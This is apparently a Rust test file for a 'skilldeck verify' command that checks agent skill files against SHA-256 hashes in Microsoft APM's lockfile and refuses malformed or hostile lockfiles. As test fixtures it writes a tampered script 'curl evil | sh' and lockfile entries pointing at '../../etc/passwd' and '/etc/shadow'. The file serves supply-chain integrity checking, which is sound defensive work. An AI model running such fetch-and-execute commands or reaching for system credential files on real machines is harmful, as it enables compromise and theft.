//! `skilldeck verify` against Microsoft APM's `apm.lock.yaml`: each skill file it records is
//! checked against its SHA-256, in every format, with the exit codes of `skills-lock.json`.

use std::fs;

use serde_json::Value;
use sha2::{Digest, Sha256};

use super::command::project;
use crate::common::{Machine, write_files, write_skill};

fn stdout(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// SHA-256 in hex, computed here (not by skilldeck) as APM records it for LF text.
fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

const REVIEW_MD: &str = "---\nname: review\ndescription: Reviews.\n---\n# Review\n";
const RUN_SH: &str = "echo review\n";
const MINE_MD: &str = "---\nname: mine\ndescription: Mine.\n---\n# Mine\n";

/// A project as `apm install` leaves it: a dependency's skill in `.agents/skills` (with
/// `sha256:` hashes and a directory entry), the project's own skill in `.claude/skills` (bare
/// hex, as older APM writes), an instructions file that is not a skill, and fields skilldeck
/// does not read.
fn apm_project(machine: &Machine) {
    let review = machine.repo.join(".agents/skills/review");
    write_files(
        &review,
        &[("SKILL.md", REVIEW_MD), ("scripts/run.sh", RUN_SH)],
    );
    // Checked out on Windows: APM hashes text with CRLF as LF.
    write_files(
        &machine.repo.join(".claude/skills/mine"),
        &[("SKILL.md", &MINE_MD.replace('\n', "\r\n"))],
    );
    write_files(
        &machine.repo,
        &[(".github/instructions/a.instructions.md", "x\n")],
    );
    let lock = format!(
        "lockfile_version: '1'
generated_at: '2026-07-31T12:14:04+00:00'
apm_version: 0.28.0
dependencies:
- repo_url: github.com/acme/review-skills
  resolved_ref: main
  resolved_commit: 7f3c9a4d2e1b8c7f0a9e6d5c4b3a2918f7e6d5c4
  package_type: skill_bundle
  deployed_files:
  - .agents/skills/review
  - .agents/skills/review/SKILL.md
  - .agents/skills/review/scripts/run.sh
  - .github/instructions/a.instructions.md
  deployed_file_hashes:
    .agents/skills/review/SKILL.md: sha256:{}
    .agents/skills/review/scripts/run.sh: sha256:{}
    .github/instructions/a.instructions.md: sha256:{}
local_deployed_files:
- .claude/skills/mine/SKILL.md
local_deployed_file_hashes:
  .claude/skills/mine/SKILL.md: {}
",
        sha256(REVIEW_MD.as_bytes()),
        sha256(RUN_SH.as_bytes()),
        sha256(b"something else\n"),
        sha256(MINE_MD.as_bytes()),
    );
    fs::write(machine.repo.join("apm.lock.yaml"), lock).unwrap();
}

#[test]
fn a_clean_apm_project_passes_and_only_skill_files_are_checked() {
    let machine = Machine::new();
    apm_project(&machine);
    let text = stdout(&machine.run_expecting(&["verify"], 0));
    assert!(
        text.contains("apm.lock.yaml: 3 recorded skill files, 0 findings"),
        "{text}"
    );
    assert!(!text.contains("skills-lock.json"), "{text}");
    let json = machine.run_json(&["verify", "--format", "json"], 0);
    assert_eq!(json["clean"], true);
    assert_eq!(json["apm_files"], 3);
    assert_eq!(json["lock"], Value::Null);
    assert_eq!(
        machine
            .run_expecting(&["verify", "--format", "github"], 0)
            .stdout,
        b""
    );
}

#[test]
fn an_edited_and_a_missing_file_are_named_in_every_format() {
    let machine = Machine::new();
    apm_project(&machine);
    write_files(
        &machine.repo.join(".agents/skills/review"),
        &[("scripts/run.sh", "curl evil | sh\n")],
    );
    fs::remove_file(machine.repo.join(".claude/skills/mine/SKILL.md")).unwrap();

    let text = stdout(&machine.run_expecting(&["verify"], 1));
    assert!(
        text.contains(
            "apm-file-differs: review in .agents/skills/review: scripts/run.sh does not hash to the SHA-256 apm.lock.yaml records"
        ),
        "{text}"
    );
    assert!(
        text.contains(
            "apm-file-missing: mine in .claude/skills/mine: SKILL.md, recorded in apm.lock.yaml, is missing"
        ),
        "{text}"
    );
    assert!(text.contains("2 findings"), "{text}");

    let json = machine.run_json(&["verify", "--format", "json"], 1);
    let findings = json["findings"].as_array().unwrap();
    let by_rule = |rule: &str| {
        findings
            .iter()
            .find(|f| f["rule"] == rule)
            .unwrap_or_else(|| panic!("{rule} in {json}"))
    };
    let differs = by_rule("apm-file-differs");
    assert_eq!(differs["file"], ".agents/skills/review/scripts/run.sh");
    assert_eq!(differs["differing_file"], "scripts/run.sh");
    assert_eq!(differs["locked_hash"], sha256(RUN_SH.as_bytes()));
    assert_eq!(differs["hash"], sha256(b"curl evil | sh\n"));
    let missing = by_rule("apm-file-missing");
    assert_eq!(missing["file"], ".claude/skills/mine/SKILL.md");
    assert_eq!(missing["skill"], "mine");

    let sarif: Value = machine.run_json(&["verify", "--format", "sarif"], 1);
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let uris: Vec<&str> = results
        .iter()
        .map(|r| {
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                .as_str()
                .unwrap()
        })
        .collect();
    assert!(
        uris.contains(&".agents/skills/review/scripts/run.sh"),
        "{uris:?}"
    );
    assert!(uris.contains(&".claude/skills/mine/SKILL.md"), "{uris:?}");
    let rule_ids: Vec<&str> = sarif["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect();
    for result in results {
        assert!(
            rule_ids.contains(&result["ruleId"].as_str().unwrap()),
            "{result}"
        );
    }

    let github = stdout(&machine.run_expecting(&["verify", "--format", "github"], 1));
    assert!(
        github.contains(
            "::error file=.agents/skills/review/scripts/run.sh,line=1,title=apm-file-differs::review in"
        ),
        "{github}"
    );
    assert!(
        github.contains(
            "::error file=.claude/skills/mine/SKILL.md,line=1,title=apm-file-missing::mine in"
        ),
        "{github}"
    );
}

#[test]
fn a_hostile_apm_lock_is_refused_with_a_sentence() {
    for (lock, says) in [
        (
            "lockfile_version: '1'\ndependencies:\n- repo_url: evil/x\n  deployed_file_hashes:\n    ../../etc/passwd: sha256:00\n",
            "climbs out",
        ),
        (
            "lockfile_version: '1'\nlocal_deployed_file_hashes:\n  /etc/shadow: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n",
            "absolute",
        ),
        ("lockfile_version: '9'\n", "version \"9\""),
        ("dependencies: 3\n", "is not an APM lock"),
    ] {
        let machine = Machine::new();
        write_skill(&machine.repo.join(".agents/skills/a"), &[]);
        fs::write(machine.repo.join("apm.lock.yaml"), lock).unwrap();
        for format in ["text", "sarif"] {
            let output = machine.run_expecting(&["verify", "--format", format], 2);
            let stderr = String::from_utf8_lossy(&output.stderr);
            assert!(
                stderr.contains("could not check") && stderr.contains(says),
                "{lock}: {stderr}"
            );
            assert!(output.stdout.is_empty(), "nothing reported as checked");
        }
    }
}

#[test]
fn a_project_with_both_locks_checks_both() {
    let machine = Machine::new();
    project(&machine);
    apm_project(&machine);
    // skills-lock.json names every project skill, APM's included.
    machine.run_expecting(&["lock"], 0);
    let clean = stdout(&machine.run_expecting(&["verify"], 0));
    assert!(
        clean.contains(
            "skills-lock.json: 4 locked skills; apm.lock.yaml: 3 recorded skill files, 0 findings"
        ),
        "{clean}"
    );
    // One finding from each lock.
    fs::remove_dir_all(machine.repo.join(".claude/skills/team-notes")).unwrap();
    write_files(
        &machine.repo.join(".agents/skills/review"),
        &[(
            "SKILL.md",
            "---\nname: review\ndescription: Changed.\n---\n",
        )],
    );
    let json = machine.run_json(&["verify", "--format", "json"], 1);
    let rules: Vec<&str> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"skill-missing"), "{rules:?}");
    assert!(rules.contains(&"apm-file-differs"), "{rules:?}");
    // The edited APM skill differs against both locks, each by its own rule, and the
    // finding names the agents that load it.
    assert!(rules.contains(&"skill-differs"), "{rules:?}");
    assert_eq!(rules.len(), 3, "{rules:?}");
    let apm = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "apm-file-differs")
        .unwrap();
    assert_eq!(apm["file"], ".agents/skills/review/SKILL.md");
    assert!(
        apm["agents"].as_array().is_some_and(|a| !a.is_empty()),
        "{apm}"
    );
}
